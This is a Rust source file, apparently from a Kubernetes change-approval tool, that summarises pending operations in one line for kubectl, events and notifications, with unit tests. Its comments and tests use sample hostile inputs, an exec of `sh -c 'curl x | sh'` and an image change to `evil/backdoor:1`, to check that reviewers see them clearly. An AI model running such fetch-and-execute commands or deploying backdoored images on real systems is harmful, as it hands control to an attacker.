//! The change in one line, for `kubectl approve list -o wide`, Events and
//! notifications: `image app: nginx:1.27 → evil/backdoor:1`,
//! `3 fields changed: spec.replicas, …`, `exec: sh -c 'curl x | sh'`.

use serde_json::Value;

use super::path::{Segment, parse};
use crate::crd::{Change, ConnectChange, DeleteChange, FieldChange, Operation};

/// The longest summary; the CRD bounds it too.
pub const MAX_SUMMARY_CHARS: usize = 500;
/// The longest value a summary quotes.
const MAX_VALUE_CHARS: usize = 60;
/// How many paths a summary of many fields names.
const NAMED_PATHS: usize = 3;

/// The summary of `change`, a pure function of its other parts (so that a
/// hand-written summary can be checked).
pub fn summarize(operation: Operation, subresource: Option<&str>, change: &Change) -> String {
    let text = match operation {
        Operation::Create => created(&change.fields),
        Operation::Update => updated(&change.fields),
        Operation::Delete => change
            .delete
            .as_ref()
            .map_or_else(|| "delete".to_owned(), deleted),
        Operation::Connect => change
            .connect
            .as_ref()
            .map_or_else(|| "connect".to_owned(), |c| connected(subresource, c)),
    };
    let text = match &change.truncated {
        Some(_) => format!("{text} (record cut to fit)"),
        None => text,
    };
    cut(&text, MAX_SUMMARY_CHARS)
}

fn cut(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_owned();
    }
    let mut out: String = text.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

fn value(v: Option<&Value>) -> String {
    match v {
        None => "<none>".to_owned(),
        Some(Value::String(s)) if s.contains('\n') => format!("({} lines)", s.lines().count()),
        Some(Value::String(s)) => cut(s, MAX_VALUE_CHARS),
        Some(other) => cut(&other.to_string(), MAX_VALUE_CHARS),
    }
}

/// `image app: nginx:1.27 → evil/backdoor:1` for a container image change.
fn image_change(f: &FieldChange) -> Option<String> {
    let path = parse(&f.path).ok()?;
    match path.as_slice() {
        [
            ..,
            Segment::Item(_, Value::String(name)),
            Segment::Key(image),
        ] if image == "image" => Some(format!(
            "image {name}: {} → {}",
            value(f.before.as_ref()),
            value(f.after.as_ref())
        )),
        _ => None,
    }
}

fn one_field(f: &FieldChange) -> String {
    if let Some(image) = image_change(f) {
        return image;
    }
    match (&f.before, &f.after, f.redacted) {
        (_, _, true) => format!("{} changed (value redacted)", f.path),
        (None, after, _) => format!("{} added: {}", f.path, value(after.as_ref())),
        (before, None, _) => format!("{} removed (was {})", f.path, value(before.as_ref())),
        (before, after, _) => format!(
            "{}: {} → {}",
            f.path,
            value(before.as_ref()),
            value(after.as_ref())
        ),
    }
}

fn updated(fields: &[FieldChange]) -> String {
    match fields {
        [] => "no change to the desired state".to_owned(),
        [one] => one_field(one),
        many => {
            let images: Vec<String> = many.iter().filter_map(image_change).collect();
            if images.len() == many.len() {
                return images.join("; ");
            }
            let mut named: Vec<&str> = many
                .iter()
                .take(NAMED_PATHS)
                .map(|f| f.path.as_str())
                .collect();
            if many.len() > NAMED_PATHS {
                named.push("…");
            }
            let lead = images.first().map(|i| format!("{i}; ")).unwrap_or_default();
            format!("{lead}{} fields changed: {}", many.len(), named.join(", "))
        }
    }
}

fn created(fields: &[FieldChange]) -> String {
    let top = |key: &str| {
        fields
            .iter()
            .find(|f| f.path == key)
            .and_then(|f| f.after.as_ref())
    };
    let kind = top("kind").and_then(Value::as_str).unwrap_or("object");
    let name = top("metadata")
        .and_then(|m| m.get("name"))
        .and_then(Value::as_str)
        .unwrap_or_default();
    format!("create {kind} {name}").trim_end().to_owned()
}

fn deleted(d: &DeleteChange) -> String {
    let mut text = format!("delete {} {} (uid {}", d.kind, d.name, d.uid);
    if let Some(p) = &d.propagation_policy {
        text.push_str(&format!(", propagation {p}"));
    }
    text.push(')');
    text
}

fn connected(subresource: Option<&str>, c: &ConnectChange) -> String {
    let container = c
        .container
        .as_deref()
        .map(|name| format!(" in container {name}"))
        .unwrap_or_default();
    match subresource {
        Some("attach") => format!("attach{container}"),
        Some("portforward") => {
            let ports: Vec<String> = c.ports.iter().map(i32::to_string).collect();
            format!("port-forward {}", ports.join(", "))
        }
        _ => format!("exec: {}{container}", command_line(&c.command)),
    }
}

/// The command line as a shell would read it back: `sh -c 'curl x | sh'`.
pub fn command_line(argv: &[String]) -> String {
    argv.iter()
        .map(|a| shlex::try_quote(a).map_or_else(|_| format!("{a:?}"), |q| q.into_owned()))
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::change::field;

    fn update(fields: Vec<FieldChange>) -> String {
        summarize(
            Operation::Update,
            None,
            &Change {
                fields,
                ..Change::default()
            },
        )
    }

    #[test]
    fn an_image_change_reads_as_one() {
        let image = field(
            "spec.template.spec.containers[name=app].image",
            Some(json!("nginx:1.27")),
            Some(json!("evil/backdoor:1")),
        );
        assert_eq!(
            update(vec![image.clone()]),
            "image app: nginx:1.27 → evil/backdoor:1"
        );
        let replicas = field("spec.replicas", Some(json!(2)), Some(json!(3)));
        assert_eq!(
            update(vec![image, replicas]),
            "image app: nginx:1.27 → evil/backdoor:1; 2 fields changed: \
             spec.template.spec.containers[name=app].image, spec.replicas"
        );
    }

    #[test]
    fn redacted_values_are_not_quoted() {
        let mut secret = field(
            "data.password",
            Some(json!("<redacted hmac:1>")),
            Some(json!("<redacted hmac:2>")),
        );
        secret.redacted = true;
        assert_eq!(
            update(vec![secret]),
            "data.password changed (value redacted)"
        );
    }

    #[test]
    fn exec_quotes_the_command_line() {
        let c = ConnectChange {
            command: vec!["sh".into(), "-c".into(), "curl x | sh".into()],
            container: Some("app".into()),
            ..ConnectChange::default()
        };
        let change = Change {
            connect: Some(c),
            ..Change::default()
        };
        assert_eq!(
            summarize(Operation::Connect, Some("exec"), &change),
            "exec: sh -c 'curl x | sh' in container app"
        );
    }

    #[test]
    fn long_summaries_are_cut() {
        let long = field("data.x", None, Some(json!("y".repeat(2000))));
        let many: Vec<FieldChange> = (0..200)
            .map(|i| {
                field(
                    &format!("data.k{i:03}{}", "z".repeat(20)),
                    None,
                    Some(json!(1)),
                )
            })
            .collect();
        assert!(update(vec![long]).chars().count() < 100);
        assert!(update(many).chars().count() <= MAX_SUMMARY_CHARS);
    }
}
